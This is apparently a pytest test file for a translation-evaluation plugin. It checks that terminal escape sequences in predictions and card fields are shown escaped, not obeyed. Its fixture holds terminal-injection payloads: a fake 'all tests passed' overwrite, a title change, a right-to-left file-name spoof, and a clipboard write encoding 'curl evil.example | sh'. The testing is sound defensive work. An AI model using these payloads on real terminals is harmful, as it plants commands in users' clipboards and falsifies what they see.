"""Issue 41, group 4 (the terminal part): escape sequences in predictions and card strings
are shown, never obeyed: pytest's failure lines and summary, and every ``mteval`` command,
escape control characters through ``terminal_text.printable``."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from methods_for_tests import MANIFEST

from pytest_mteval.terminal_text import printable

pytest_plugins = ["pytester"]

#: A window title, a line erase with a carriage return, an OSC 52 clipboard write, a C1 CSI,
#: and a bidirectional override.
HOSTILE = (
    "\x1b]0;pwned\x07"
    "\x1b[2K\rall tests passed"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    "\x9b31m"
    "\u202etxt.exe"
)
#: Any of the characters a terminal obeys, as they would reach it raw.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

PROBE = f"""
class Probe:
    async def translate(self, entries, config):
        evil = config.method_args.get("evil")
        text = {HOSTILE!r}
        return [{{"id": e["id"], "predicted": text if evil else e["source"]}} for e in entries]
"""


def probe(root: Path) -> Path:
    folder = root / "escaper"
    folder.mkdir()
    manifest = {**MANIFEST, "name": "probe\x1b]0;title\x07"}
    (folder / "method.json").write_text(json.dumps(manifest), encoding="utf-8")
    (folder / "probe.py").write_text(PROBE, encoding="utf-8")
    return folder


def test_printable_escapes_what_a_terminal_obeys_and_keeps_lines():
    shown = printable(HOSTILE + "\nline two\tcell\r\n")
    assert not RAW.search(shown.replace("\r\n", "\n"))
    assert "\\u001b]0;pwned\\u0007" in shown
    assert "\\u009b31m" in shown
    assert "\\u202etxt.exe" in shown
    assert shown.endswith("\nline two\tcell\r\n")
    assert printable("a\nb", lines=False) == "a\\u000ab"


@given(st.text())
def test_printable_leaves_nothing_a_terminal_obeys(text):
    shown = printable(text)
    assert not RAW.search(shown.replace("\r\n", "\n"))
    if not RAW.search(text) and "\r" not in text:
        assert shown == text  # safe text is unchanged: French spaces, Cree syllabics...


def test_pytest_failure_lines_and_summary_show_escapes_not_obey_them(pytester, small_corpus):
    folder = probe(pytester.path)
    baseline = pytester.path / "baseline.json"
    first = pytester.runpytest_subprocess(
        f"--mteval-corpus={small_corpus}",
        f"--mteval-method={folder}",
        f"--mteval-baseline={baseline}",
        "--mteval-update-baseline",
    )
    assert baseline.exists(), first.stdout.str()
    card = pytester.path / "card.json"
    result = pytester.runpytest_subprocess(
        f"--mteval-corpus={small_corpus}",
        f"--mteval-method={folder}",
        "--mteval-method-arg=evil=1",
        f"--mteval-baseline={baseline}",
        f"--mteval-run-card={card}",
        "-rf",
    )
    out = result.stdout.str()
    assert result.ret == 1
    assert "\\u001b]52;c;" in out  # the prediction is shown, escaped, in the failure text
    colours = re.compile(r"\x1b\[[0-9;]*m")  # pytest's own colours, if any
    assert not RAW.search(colours.sub("", out)), [
        line for line in out.splitlines() if RAW.search(colours.sub("", line))
    ][:3]
    compared = subprocess.run(
        [sys.executable, "-m", "pytest_mteval.cli.main", "compare", str(baseline), str(card)],
        capture_output=True,
        text=True,
    )
    assert "\\u001b]0;pwned" in compared.stdout, compared.stdout
    assert not RAW.search(compared.stdout + compared.stderr)
    shown = subprocess.run(
        [sys.executable, "-m", "pytest_mteval.cli.main", "compare", str(baseline), str(card),
         "--format=markdown"],
        capture_output=True, text=True,
    )  # fmt: skip
    assert "\\u001b]52" in shown.stdout
    assert not RAW.search(shown.stdout + shown.stderr)


def test_every_mteval_command_escapes_what_it_prints(tmp_path):
    """``mteval verify`` quotes a foreign card's harness_version: the one stream wrapper of
    the ``mteval`` command escapes it, as it does for every subcommand."""
    from test_bad_evidence import FOREIGN_CARD, rehashed

    card = json.loads(FOREIGN_CARD.read_text(encoding="utf-8"))
    card["harness_version"] = "1.0\x1b]0;pwned\x07\x1b]52;c;Y3VybA==\x07"
    path = tmp_path / "foreign.json"
    path.write_text(json.dumps(rehashed(card)), encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "pytest_mteval.cli.main", "verify", str(path)],
        capture_output=True,
        text=True,
    )
    assert "1.0\\u001b]0;pwned\\u0007" in done.stdout + done.stderr, done.stdout + done.stderr
    assert not RAW.search(done.stdout + done.stderr)
